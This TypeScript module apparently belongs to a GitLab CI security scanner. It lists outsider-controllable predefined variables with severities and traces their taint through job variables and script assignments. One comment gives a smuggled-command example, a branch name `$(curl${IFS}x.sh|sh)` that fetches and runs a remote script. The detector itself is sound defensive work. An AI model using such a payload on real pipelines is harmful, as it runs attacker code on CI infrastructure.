import { lexScriptItem } from './script-view.ts';
import { taintedAssignments } from './code-sinks.ts';
import type { Severity } from '../../../core/severity.ts';
import type { GitlabJob } from './gitlab-model.ts';

/** What an outsider-controlled value is, and how bad running it is: tags need push rights to tags, so they rank lower. */
export interface OutsiderSource {
  label: string;
  severity: Severity;
}

/**
 * Predefined variables whose text someone outside the project's maintainers can choose: commit
 * and tag messages, author names, branch and tag names, merge request titles and descriptions.
 * A branch may legally be called `$(curl${IFS}x.sh|sh)`. CI_COMMIT_REF_SLUG is left out: GitLab
 * reduces it to lowercase letters, digits and dashes.
 */
export const outsiderVariables: ReadonlyMap<string, OutsiderSource> = new Map(
  (
    [
      ['CI_COMMIT_MESSAGE', 'the commit message', 'high'],
      ['CI_COMMIT_TITLE', 'the commit title', 'high'],
      ['CI_COMMIT_DESCRIPTION', 'the commit description', 'high'],
      ['CI_COMMIT_AUTHOR', "the commit author's name", 'high'],
      ['CI_COMMIT_BRANCH', 'the branch name', 'high'],
      ['CI_COMMIT_REF_NAME', 'the branch or tag name', 'high'],
      ['CI_MERGE_REQUEST_TITLE', 'the merge request title', 'high'],
      ['CI_MERGE_REQUEST_DESCRIPTION', 'the merge request description', 'high'],
      ['CI_MERGE_REQUEST_SOURCE_BRANCH_NAME', "the merge request's source branch name", 'high'],
      ['CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME', "the external pull request's source branch name", 'high'],
      ['CI_COMMIT_TAG', 'the tag name', 'medium'],
      ['CI_COMMIT_TAG_MESSAGE', 'the tag message', 'medium'],
    ] as const
  ).map(([name, label, severity]) => [name, { label, severity }]),
);

/**
 * Names in one job that carry outsider text, with where it came from: the predefined variables,
 * `variables:` entries GitLab expands from them (unless `expand: false`), and shell assignments
 * from them in the job's scripts.
 */
export function outsiderTaint(job: GitlabJob): Map<string, OutsiderSource> {
  const tainted = new Map(outsiderVariables);
  const isTainted = (name: string) => tainted.has(name);
  for (let round = 0; round < 5; round += 1) {
    const before = tainted.size;
    for (const variable of job.variables) {
      if (variable.isRaw || !variable.value || tainted.has(variable.name)) continue;
      const source = referencedNames(variable.value.value).find(isTainted);
      if (source) tainted.set(variable.name, { ...tainted.get(source)!, label: `${tainted.get(source)!.label}, through variable ${variable.name}` });
    }
    for (const item of job.scripts) {
      for (const { name, source } of taintedAssignments(lexScriptItem(item.field).lexed, isTainted)) {
        if (!tainted.has(name)) tainted.set(name, { ...tainted.get(source)!, label: `${tainted.get(source)!.label}, assigned to ${name}` });
      }
    }
    if (tainted.size === before) break;
  }
  return tainted;
}

/** `$NAME` and `${NAME}` references in a variable's value. */
function referencedNames(value: string): string[] {
  // A dollar, an optional brace, then an identifier.
  return [...value.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!);
}
